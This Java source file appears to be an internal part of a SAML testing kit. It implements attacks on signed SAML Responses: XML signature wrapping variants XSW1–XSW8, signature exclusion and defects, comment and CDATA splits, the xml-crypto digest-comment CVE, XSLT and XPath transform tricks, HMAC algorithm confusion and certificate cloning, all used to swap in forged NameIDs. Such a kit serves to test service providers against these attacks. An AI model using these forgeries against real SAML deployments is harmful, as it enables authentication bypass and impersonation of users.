package io.cloudsign.saml.testkit.internal;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.SecureRandom;
import java.security.Signature;
import java.security.cert.X509Certificate;
import java.security.interfaces.RSAPublicKey;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The DOM surgery behind the named attacks of the testkit's {@code ResponseBuilder} (signature
 * wrapping, signature exclusion, transforms, algorithm confusion, …). Each method works on a signed
 * Response document and changes exactly what its name says. Not API.
 */
public final class Attacks {
  public static final String DSIG_NS = EnvelopedSigner.DSIG_NS;
  public static final String PROTOCOL_NS = "urn:oasis:names:tc:SAML:2.0:protocol";
  public static final String ASSERTION_NS = "urn:oasis:names:tc:SAML:2.0:assertion";
  public static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
  public static final String XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116";
  public static final String XPATH_FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2";
  public static final String BASE64 = "http://www.w3.org/2000/09/xmldsig#base64";
  public static final String HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
  public static final String SHA1_DIGEST = "http://www.w3.org/2000/09/xmldsig#sha1";
  public static final String RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
  private static final SecureRandom RANDOM = new SecureRandom();

  private Attacks() {}

  // ------------------------------------------------------------------ lookups

  /** The first top-level Assertion of the Response. */
  public static Element assertion(Document doc) {
    List<Element> list = Xml.children(doc.getDocumentElement(), ASSERTION_NS, "Assertion");
    if (list.isEmpty()) {
      throw new IllegalStateException("the Response has no Assertion to attack");
    }
    return list.get(0);
  }

  /** The direct {@code ds:Signature} child of {@code signed}. */
  public static Element signatureOf(Element signed, String what) {
    List<Element> sigs = Xml.children(signed, DSIG_NS, "Signature");
    if (sigs.isEmpty()) {
      throw new IllegalStateException(
          what + " is not signed; choose a signing mode that signs it for this attack");
    }
    return sigs.get(0);
  }

  /** The signature an attack on "the" signature targets: the Assertion's, else the Response's. */
  public static Element targetSignature(Document doc) {
    Element root = doc.getDocumentElement();
    List<Element> assertions = Xml.children(root, ASSERTION_NS, "Assertion");
    if (!assertions.isEmpty() && !Xml.children(assertions.get(0), DSIG_NS, "Signature").isEmpty()) {
      return Xml.children(assertions.get(0), DSIG_NS, "Signature").get(0);
    }
    return signatureOf(root, "the Response");
  }

  public static Element child(Element parent, String ns, String name) {
    List<Element> list = Xml.children(parent, ns, name);
    if (list.isEmpty()) {
      throw new IllegalStateException(parent.getLocalName() + " has no " + name);
    }
    return list.get(0);
  }

  /** Sets the text of every NameID under {@code scope}. */
  public static void setNameId(Element scope, String value) {
    for (Element n : Xml.descendants(scope, ASSERTION_NS, "NameID")) {
      n.setTextContent(value);
    }
  }

  /** Imports a well-formed fragment (one element) into {@code doc}. */
  public static Element fragment(Document doc, String xml) {
    return (Element) doc.importNode(Xml.parseKeepingOrder(xml).getDocumentElement(), true);
  }

  public static String newId() {
    return "_" + UUID.randomUUID();
  }

  // ------------------------------------------------------------------ XML signature wrapping

  /**
   * XSW1–XSW8 exactly as SAML Raider's XSW helper builds them (after "On Breaking SAML", Somorovsky
   * et al. 2012); {@code evilNameId} (may be null: no content change) plays SAML Raider's
   * match-and-replace on the element the attacker wants read.
   */
  public static void xsw(Document doc, int variant, String evilNameId) {
    Element response = doc.getDocumentElement();
    switch (variant) {
      case 1, 2 -> {
        Element signature = signatureOf(response, "the Response");
        Element clone = (Element) response.cloneNode(true);
        replace(response, evilNameId);
        clone.removeChild(Xml.children(clone, DSIG_NS, "Signature").get(0));
        if (variant == 1) {
          signature.appendChild(clone);
        } else {
          response.insertBefore(clone, signature);
        }
        response.setAttributeNS(null, "ID", "_evil_response_ID");
      }
      case 3, 4 -> {
        Element assertion = assertion(doc);
        signatureOf(assertion, "the Assertion");
        Element evil = (Element) assertion.cloneNode(true);
        replace(evil, evilNameId);
        evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
        evil.removeChild(Xml.children(evil, DSIG_NS, "Signature").get(0));
        if (variant == 3) {
          response.insertBefore(evil, assertion);
        } else {
          response.appendChild(evil);
          evil.appendChild(assertion);
        }
      }
      case 5, 6 -> {
        Element evil = assertion(doc);
        Element originalSignature = signatureOf(evil, "the Assertion");
        Element copy = (Element) evil.cloneNode(true);
        replace(evil, evilNameId);
        copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
        if (variant == 5) {
          response.appendChild(copy);
        } else {
          originalSignature.appendChild(copy);
        }
        evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
      }
      case 7 -> {
        Element assertion = assertion(doc);
        signatureOf(assertion, "the Assertion");
        // SAML Raider uses createElement: an Extensions element in no namespace.
        Element extensions = doc.createElementNS(null, "Extensions");
        response.insertBefore(extensions, assertion);
        Element evil = (Element) assertion.cloneNode(true);
        replace(evil, evilNameId);
        evil.removeChild(Xml.children(evil, DSIG_NS, "Signature").get(0));
        extensions.appendChild(evil);
      }
      case 8 -> {
        Element evil = assertion(doc);
        Element originalSignature = signatureOf(evil, "the Assertion");
        Element copy = (Element) evil.cloneNode(true);
        replace(evil, evilNameId);
        copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
        // SAML Raider's createElement("Object") inside Entra's default-namespace Signature is a
        // ds:Object once serialised.
        Element object = doc.createElementNS(DSIG_NS, "Object");
        originalSignature.appendChild(object);
        object.appendChild(copy);
      }
      default -> throw new IllegalArgumentException("no XSW variant " + variant);
    }
  }

  private static void replace(Element scope, String evilNameId) {
    if (evilNameId != null) {
      setNameId(scope, evilNameId);
    }
  }

  /**
   * The wrapper variant: the Assertion in place keeps the genuine Signature but gets a new ID and
   * {@code evilNameId}; an unsigned copy of the genuine Assertion (original ID) sits in an element
   * of an unknown namespace at the end of the Response, so the Reference still resolves to genuine,
   * digest-matching content.
   */
  public static void xswUnknownWrapper(Document doc, String evilNameId) {
    Element response = doc.getDocumentElement();
    Element evil = assertion(doc);
    signatureOf(evil, "the Assertion");
    Element copy = (Element) evil.cloneNode(true);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    replace(evil, evilNameId);
    evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
    Element wrapper = doc.createElementNS("urn:attacker:wrapper", "w:Wrapper");
    wrapper.setAttributeNS(Xml.XMLNS, "xmlns:w", "urn:attacker:wrapper");
    wrapper.appendChild(copy);
    response.appendChild(wrapper);
  }

  /**
   * The wrapper variant on a Response signature: the Response gets a new ID (its Assertion a new ID
   * and {@code evilNameId}) but keeps the genuine Signature; an unsigned copy of the genuine
   * Response (original IDs) sits in an element of an unknown namespace at its end, so the Reference
   * resolves to matching content and no ID occurs twice.
   */
  public static void xswResponseUnknownWrapper(Document doc, String evilNameId) {
    Element response = doc.getDocumentElement();
    Element copy = (Element) response.cloneNode(true);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    signatureOf(response, "the Response");
    response.setAttributeNS(null, "ID", "_evil_response_ID");
    for (Element a : Xml.children(response, ASSERTION_NS, "Assertion")) {
      String id = newId();
      a.setAttributeNS(null, "ID", id);
      for (Element s : Xml.descendants(a, ASSERTION_NS, "AuthnStatement")) {
        s.setAttributeNS(null, "SessionIndex", id);
      }
      replace(a, evilNameId);
    }
    Element wrapper = doc.createElementNS("urn:attacker:wrapper", "w:Wrapper");
    wrapper.setAttributeNS(Xml.XMLNS, "xmlns:w", "urn:attacker:wrapper");
    wrapper.appendChild(copy);
    response.appendChild(wrapper);
  }

  /** The Assertion's Signature is moved onto the Response (after its Issuer). */
  public static void moveAssertionSignatureToResponse(Document doc) {
    Element response = doc.getDocumentElement();
    Element signature = signatureOf(assertion(doc), "the Assertion");
    signature.getParentNode().removeChild(signature);
    Element issuer = child(response, ASSERTION_NS, "Issuer");
    response.insertBefore(signature, issuer.getNextSibling());
  }

  /** Gives the Subject an ID and a genuine enveloped signature (the Assertion stays unsigned). */
  public static void signSubject(
      Document doc, SignatureAlgorithm alg, PrivateKey key, X509Certificate cert) {
    Element subject = child(assertion(doc), ASSERTION_NS, "Subject");
    String id = newId();
    subject.setAttributeNS(null, "ID", id);
    subject.setIdAttributeNS(null, "ID", true);
    subject.insertBefore(
        fragment(doc, EnvelopedSigner.skeleton(id, alg, Certificates.base64(cert))),
        subject.getFirstChild());
    EnvelopedSigner.sign(subject, alg, key);
  }

  /** Puts a (genuinely signed) element into a new samlp:Extensions of the Response. */
  public static void addToExtensions(Document doc, Element element) {
    Element response = doc.getDocumentElement();
    Element extensions = doc.createElementNS(PROTOCOL_NS, "samlp:Extensions");
    extensions.appendChild(element);
    response.insertBefore(extensions, child(response, PROTOCOL_NS, "Status"));
  }

  /** Puts an element into a new samlp:StatusDetail of the Response's Status. */
  public static void addToStatusDetail(Document doc, Element element) {
    Element status = child(doc.getDocumentElement(), PROTOCOL_NS, "Status");
    Element detail = doc.createElementNS(PROTOCOL_NS, "samlp:StatusDetail");
    detail.appendChild(element);
    status.appendChild(detail);
  }

  /** A LogoutResponse of the IdP, genuinely signed with its key. */
  public static Element signedLogoutResponse(
      Document doc,
      String issuer,
      String destination,
      String issueInstant,
      SignatureAlgorithm alg,
      PrivateKey key,
      X509Certificate cert) {
    String id = newId();
    String xml =
        "<samlp:LogoutResponse xmlns:samlp=\""
            + PROTOCOL_NS
            + "\" ID=\""
            + id
            + "\" Version=\"2.0\" IssueInstant=\""
            + issueInstant
            + "\" Destination=\""
            + Xml.escape(destination)
            + "\" InResponseTo=\"_logout\"><Issuer xmlns=\""
            + ASSERTION_NS
            + "\">"
            + Xml.escape(issuer)
            + "</Issuer>"
            + EnvelopedSigner.skeleton(id, alg, Certificates.base64(cert))
            + "<samlp:Status><samlp:StatusCode"
            + " Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>"
            + "</samlp:LogoutResponse>";
    Document own = Xml.parseKeepingOrder(xml);
    EnvelopedSigner.sign(own.getDocumentElement(), alg, key);
    return (Element) doc.importNode(own.getDocumentElement(), true);
  }

  // ------------------------------------------------------------------ comment / CDATA splits

  /**
   * Splits the text of {@code element} after {@code prefix} with an empty comment, or makes the
   * rest a CDATA section. Both are invisible to exclusive c14n without comments, so the signature
   * stays valid; a parser that returns only the first text node reads {@code prefix}.
   */
  public static void split(Element element, String prefix, boolean cdata) {
    String value = element.getTextContent();
    if (!value.startsWith(prefix) || value.length() == prefix.length()) {
      throw new IllegalArgumentException(
          element.getLocalName() + " value " + value + " does not continue after " + prefix);
    }
    while (element.getFirstChild() != null) {
      element.removeChild(element.getFirstChild());
    }
    Document doc = element.getOwnerDocument();
    element.appendChild(doc.createTextNode(prefix));
    String rest = value.substring(prefix.length());
    if (cdata) {
      element.appendChild(doc.createCDATASection(rest));
    } else {
      element.appendChild(doc.createComment(""));
      element.appendChild(doc.createTextNode(rest));
    }
  }

  // ------------------------------------------------------------------ signature exclusion

  /** What {@link #defect} does to a genuine signature. */
  public enum Defect {
    REMOVED,
    NO_SIGNED_INFO,
    EMPTY_SIGNATURE_VALUE,
    REFERENCE_TO_MISSING_ID,
    TWO_SIGNED_INFO,
    TWO_SIGNATURE_VALUES,
    TWO_REFERENCES,
    COMMENT_IN_DIGEST_VALUE,
    REFERENCE_URI_XPOINTER_QUOTED,
    REFERENCE_URI_WITHOUT_HASH,
    REFERENCE_URI_EMPTY
  }

  /**
   * Damages {@code signature} (of {@code signed}). Variants that change SignedInfo re-sign it with
   * {@code key} (as if a genuine signature were lifted or the IdP had signed it), so that only a
   * structural rule can reject them.
   */
  public static void defect(
      Element signed, Element signature, Defect defect, PrivateKey key, String evilNameId) {
    Element signedInfo = child(signature, DSIG_NS, "SignedInfo");
    Element reference = child(signedInfo, DSIG_NS, "Reference");
    Element signatureValue = child(signature, DSIG_NS, "SignatureValue");
    String id = signed.getAttribute("ID");
    switch (defect) {
      case REMOVED -> signed.removeChild(signature);
      case NO_SIGNED_INFO -> signature.removeChild(signedInfo);
      case EMPTY_SIGNATURE_VALUE -> signatureValue.setTextContent("");
      case TWO_SIGNED_INFO ->
          signature.insertBefore(signedInfo.cloneNode(true), signedInfo.getNextSibling());
      case TWO_SIGNATURE_VALUES ->
          signature.insertBefore(signatureValue.cloneNode(true), signatureValue.getNextSibling());
      case TWO_REFERENCES -> {
        signedInfo.appendChild(reference.cloneNode(true));
        resign(signature, key);
      }
      case REFERENCE_TO_MISSING_ID -> {
        reference.setAttributeNS(null, "URI", "#_missing" + id);
        resign(signature, key);
      }
      case REFERENCE_URI_XPOINTER_QUOTED -> {
        reference.setAttributeNS(null, "URI", "#xpointer(id('" + id + "'))");
        resign(signature, key);
      }
      case REFERENCE_URI_WITHOUT_HASH -> {
        reference.setAttributeNS(null, "URI", id);
        resign(signature, key);
      }
      case REFERENCE_URI_EMPTY -> {
        // URI="" is the whole document; enveloped + exc-c14n over it, so the digest is genuine.
        reference.setAttributeNS(null, "URI", "");
        Element root = signed.getOwnerDocument().getDocumentElement();
        setDigest(reference, digestWithout(root, signature, "SHA-256"));
        resign(signature, key);
      }
      case COMMENT_IN_DIGEST_VALUE -> {
        // xml-crypto CVE-2025-29775: the digest of the changed content hides in a comment before
        // the genuine one; c14n of SignedInfo drops the comment, so SignatureValue still holds.
        setNameId(signed, evilNameId == null ? "admin@contoso.com" : evilNameId);
        Element digestValue = child(reference, DSIG_NS, "DigestValue");
        String genuine = digestValue.getTextContent();
        String evil = digestWithout(signed, signature, "SHA-256");
        digestValue.setTextContent("");
        digestValue.appendChild(digestValue.getOwnerDocument().createComment(evil));
        digestValue.appendChild(digestValue.getOwnerDocument().createTextNode(genuine));
      }
    }
  }

  /** Base64 digest of exc-c14n of {@code signed} without {@code signature}. */
  public static String digestWithout(Element signed, Element signature, String jcaDigest) {
    Node parent = signature.getParentNode();
    Node next = signature.getNextSibling();
    parent.removeChild(signature);
    try {
      byte[] c14n = EnvelopedSigner.excC14n(signed);
      return Base64.getEncoder().encodeToString(MessageDigest.getInstance(jcaDigest).digest(c14n));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    } finally {
      parent.insertBefore(signature, next);
    }
  }

  private static void setDigest(Element reference, String base64) {
    child(reference, DSIG_NS, "DigestValue").setTextContent(base64);
  }

  /** Recomputes SignatureValue over SignedInfo with RSA-SHA256 and {@code key}. */
  public static void resign(Element signature, PrivateKey key) {
    try {
      Signature rsa = Signature.getInstance("SHA256withRSA");
      rsa.initSign(key);
      rsa.update(EnvelopedSigner.excC14n(child(signature, DSIG_NS, "SignedInfo")));
      child(signature, DSIG_NS, "SignatureValue")
          .setTextContent(Base64.getEncoder().encodeToString(rsa.sign()));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  // ------------------------------------------------------------------ transforms

  /** Transforms beyond enveloped + exc-c14n, see {@link #extraTransform}. */
  public enum ExtraTransform {
    XSLT,
    XPATH,
    XPATH_FILTER2,
    BASE64
  }

  /**
   * Adds a transform to the Reference of {@code signature} and re-signs SignedInfo with {@code
   * key}. XSLT's stylesheet fetches {@code canary} with {@code document()}. XPATH_FILTER2 subtracts
   * the NameID, changes it to {@code evilNameId} and carries the genuine digest of the rest, so the
   * signature holds for a verifier that runs the transform.
   */
  public static void extraTransform(
      Element signed,
      Element signature,
      ExtraTransform transform,
      String canary,
      PrivateKey key,
      String evilNameId) {
    Document doc = signed.getOwnerDocument();
    Element reference = child(child(signature, DSIG_NS, "SignedInfo"), DSIG_NS, "Reference");
    Element transforms = child(reference, DSIG_NS, "Transforms");
    String xml =
        switch (transform) {
          case XSLT ->
              "<Transform xmlns=\""
                  + DSIG_NS
                  + "\" Algorithm=\""
                  + XSLT
                  + "\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\""
                  + " version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of"
                  + " select=\"document('"
                  + Xml.escape(canary)
                  + "')\"/></xsl:template></xsl:stylesheet></Transform>";
          case XPATH ->
              "<Transform xmlns=\""
                  + DSIG_NS
                  + "\" Algorithm=\""
                  + XPATH
                  + "\"><XPath>not(ancestor-or-self::*[local-name()='NameID'])</XPath></Transform>";
          case XPATH_FILTER2 ->
              "<Transform xmlns=\""
                  + DSIG_NS
                  + "\" Algorithm=\""
                  + XPATH_FILTER2
                  + "\"><f:XPath xmlns:f=\""
                  + XPATH_FILTER2
                  + "\" Filter=\"subtract\">//*[local-name()='NameID']</f:XPath></Transform>";
          case BASE64 -> "<Transform xmlns=\"" + DSIG_NS + "\" Algorithm=\"" + BASE64 + "\"/>";
        };
    transforms.insertBefore(fragment(doc, xml), transforms.getFirstChild());
    if (transform == ExtraTransform.XPATH_FILTER2) {
      List<Element> nameIds = Xml.descendants(signed, ASSERTION_NS, "NameID");
      Element nameId = nameIds.get(0);
      Node parent = nameId.getParentNode();
      Node next = nameId.getNextSibling();
      parent.removeChild(nameId);
      setDigest(reference, digestWithout(signed, signature, "SHA-256"));
      parent.insertBefore(nameId, next);
      nameId.setTextContent(evilNameId == null ? "admin@contoso.com" : evilNameId);
    }
    resign(signature, key);
  }

  /** Replaces the Transforms of {@code signature}'s Reference with {@code algorithms}; re-signs. */
  public static void replaceTransforms(Element signature, List<String> algorithms, PrivateKey key) {
    Document doc = signature.getOwnerDocument();
    Element reference = child(child(signature, DSIG_NS, "SignedInfo"), DSIG_NS, "Reference");
    Element transforms = child(reference, DSIG_NS, "Transforms");
    while (transforms.getFirstChild() != null) {
      transforms.removeChild(transforms.getFirstChild());
    }
    for (String algorithm : algorithms) {
      transforms.appendChild(
          fragment(
              doc,
              "<Transform xmlns=\""
                  + DSIG_NS
                  + "\" Algorithm=\""
                  + Xml.escape(algorithm)
                  + "\"/>"));
    }
    resign(signature, key);
  }

  // ------------------------------------------------------------------ keys and algorithms

  /** A certificate copying {@code original}'s subject, issuer, serial and validity: new key. */
  public static SigningKey clone(X509Certificate original) {
    try {
      KeyPairGenerator g = KeyPairGenerator.getInstance("RSA");
      g.initialize(((RSAPublicKey) original.getPublicKey()).getModulus().bitLength(), RANDOM);
      KeyPair kp = g.generateKeyPair();
      var b =
          new JcaX509v3CertificateBuilder(
              X500Name.getInstance(original.getIssuerX500Principal().getEncoded()),
              original.getSerialNumber(),
              original.getNotBefore(),
              original.getNotAfter(),
              X500Name.getInstance(original.getSubjectX500Principal().getEncoded()),
              kp.getPublic());
      var signer = new JcaContentSignerBuilder("SHA256withRSA").build(kp.getPrivate());
      return new SigningKey(
          kp.getPrivate(), new JcaX509CertificateConverter().getCertificate(b.build(signer)));
    } catch (GeneralSecurityException | OperatorCreationException e) {
      throw new IllegalStateException("cannot clone the certificate", e);
    }
  }

  /** An RSA key of {@code bits} with a self-signed certificate with Entra's subject. */
  public static SigningKey rsaKey(int bits) {
    try {
      KeyPairGenerator g = KeyPairGenerator.getInstance("RSA");
      g.initialize(bits, RANDOM);
      KeyPair kp = g.generateKeyPair();
      X500Name name = new X500Name(Certificates.ENTRA_SUBJECT);
      var now = java.time.Instant.now();
      var b =
          new JcaX509v3CertificateBuilder(
              name,
              BigInteger.valueOf(RANDOM.nextLong() & Long.MAX_VALUE),
              java.util.Date.from(now.minusSeconds(86400)),
              java.util.Date.from(now.plusSeconds(3 * 365 * 86400L)),
              name,
              kp.getPublic());
      var signer = new JcaContentSignerBuilder("SHA256withRSA").build(kp.getPrivate());
      return new SigningKey(
          kp.getPrivate(), new JcaX509CertificateConverter().getCertificate(b.build(signer)));
    } catch (GeneralSecurityException | OperatorCreationException e) {
      throw new IllegalStateException("cannot generate an RSA-" + bits + " key", e);
    }
  }

  /** Replaces the X509Data of {@code signature}'s KeyInfo by the RSAKeyValue of {@code key}. */
  public static void keyValueInsteadOfCertificate(Element signature, RSAPublicKey key) {
    Element keyInfo = child(signature, DSIG_NS, "KeyInfo");
    while (keyInfo.getFirstChild() != null) {
      keyInfo.removeChild(keyInfo.getFirstChild());
    }
    Base64.Encoder b64 = Base64.getEncoder();
    keyInfo.appendChild(
        fragment(
            signature.getOwnerDocument(),
            "<KeyValue xmlns=\""
                + DSIG_NS
                + "\"><RSAKeyValue><Modulus>"
                + b64.encodeToString(unsigned(key.getModulus()))
                + "</Modulus><Exponent>"
                + b64.encodeToString(unsigned(key.getPublicExponent()))
                + "</Exponent></RSAKeyValue></KeyValue>"));
  }

  private static byte[] unsigned(BigInteger n) {
    byte[] b = n.toByteArray();
    return b[0] == 0 ? java.util.Arrays.copyOfRange(b, 1, b.length) : b;
  }

  /** Removes KeyInfo from {@code signature} (it is not signed). */
  public static void removeKeyInfo(Element signature) {
    signature.removeChild(child(signature, DSIG_NS, "KeyInfo"));
  }

  /** Switches the Reference to a SHA-1 digest (recomputed) and re-signs with RSA-SHA256. */
  public static void sha1Digest(Element signed, Element signature, PrivateKey key) {
    Element reference = child(child(signature, DSIG_NS, "SignedInfo"), DSIG_NS, "Reference");
    child(reference, DSIG_NS, "DigestMethod").setAttributeNS(null, "Algorithm", SHA1_DIGEST);
    setDigest(reference, digestWithout(signed, signature, "SHA-1"));
    resign(signature, key);
  }

  /**
   * Turns the signature into HMAC-SHA256 keyed with {@code keyBytes} (the IdP's public key: a
   * verifier that feeds "the key" of the certificate to HMAC accepts it). With {@code outputBits}
   * (CVE-2009-0217) an {@code HMACOutputLength} is declared and the value truncated.
   */
  public static void hmac(Element signature, byte[] keyBytes, Integer outputBits) {
    Element signedInfo = child(signature, DSIG_NS, "SignedInfo");
    Element method = child(signedInfo, DSIG_NS, "SignatureMethod");
    method.setAttributeNS(null, "Algorithm", HMAC_SHA256);
    if (outputBits != null) {
      Element length = signature.getOwnerDocument().createElementNS(DSIG_NS, "HMACOutputLength");
      length.setTextContent(Integer.toString(outputBits));
      method.appendChild(length);
    }
    try {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(keyBytes, "HmacSHA256"));
      byte[] value = mac.doFinal(EnvelopedSigner.excC14n(signedInfo));
      if (outputBits != null) {
        value = java.util.Arrays.copyOf(value, Math.max(0, (outputBits + 7) / 8));
      }
      child(signature, DSIG_NS, "SignatureValue")
          .setTextContent(Base64.getEncoder().encodeToString(value));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  // ------------------------------------------------------------------ assertion placement

  /** Where an Assertion can hide in a Response. */
  public enum Container {
    ADVICE,
    EXTENSIONS,
    STATUS_DETAIL
  }

  /**
   * The genuine signed Assertion moves into {@code container}; an unsigned copy with a new ID and
   * {@code evilNameId} takes its place (for ADVICE the genuine one goes into that copy's Advice).
   */
  public static void hideGenuineAssertion(Document doc, Container container, String evilNameId) {
    Element response = doc.getDocumentElement();
    Element genuine = assertion(doc);
    Element evil = unsignedCopy(genuine, evilNameId);
    response.replaceChild(evil, genuine);
    switch (container) {
      case ADVICE -> {
        Element advice = doc.createElementNS(ASSERTION_NS, "Advice");
        advice.appendChild(genuine);
        Element conditions = child(evil, ASSERTION_NS, "Conditions");
        evil.insertBefore(advice, conditions.getNextSibling());
      }
      case EXTENSIONS -> addToExtensions(doc, genuine);
      case STATUS_DETAIL -> addToStatusDetail(doc, genuine);
    }
  }

  /** An unsigned copy of {@code assertion} with a new ID and (if given) another NameID. */
  public static Element unsignedCopy(Element assertion, String nameId) {
    Element copy = (Element) assertion.cloneNode(true);
    for (Element s : Xml.children(copy, DSIG_NS, "Signature")) {
      copy.removeChild(s);
    }
    String id = newId();
    copy.setAttributeNS(null, "ID", id);
    for (Element a : Xml.descendants(copy, ASSERTION_NS, "AuthnStatement")) {
      a.setAttributeNS(null, "SessionIndex", id);
    }
    replace(copy, nameId);
    return copy;
  }

  // ------------------------------------------------------------------ size and shape

  /** An element of an unknown namespace nested {@code depth} deep. */
  public static String nested(int depth) {
    StringBuilder sb = new StringBuilder(depth * 12 + 64);
    sb.append("<x:n xmlns:x=\"urn:attacker:nest\">");
    for (int i = 1; i < depth; i++) {
      sb.append("<x:n>");
    }
    for (int i = 0; i < depth; i++) {
      sb.append("</x:n>");
    }
    return sb.toString();
  }

  /** An element of an unknown namespace with {@code count} attributes. */
  public static String manyAttributes(int count) {
    StringBuilder sb = new StringBuilder(count * 12 + 64);
    sb.append("<x:a xmlns:x=\"urn:attacker:attrs\"");
    for (int i = 0; i < count; i++) {
      sb.append(" a").append(i).append("=\"\"");
    }
    return sb.append("/>").toString();
  }

  /** {@code chars} characters of base64-looking filler. */
  public static String filler(int chars) {
    byte[] raw = new byte[chars * 3 / 4 + 3];
    RANDOM.nextBytes(raw);
    return Base64.getEncoder().encodeToString(raw).substring(0, chars);
  }

  /** UTF-8 bytes of a string (for keys given as text). */
  public static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }
}
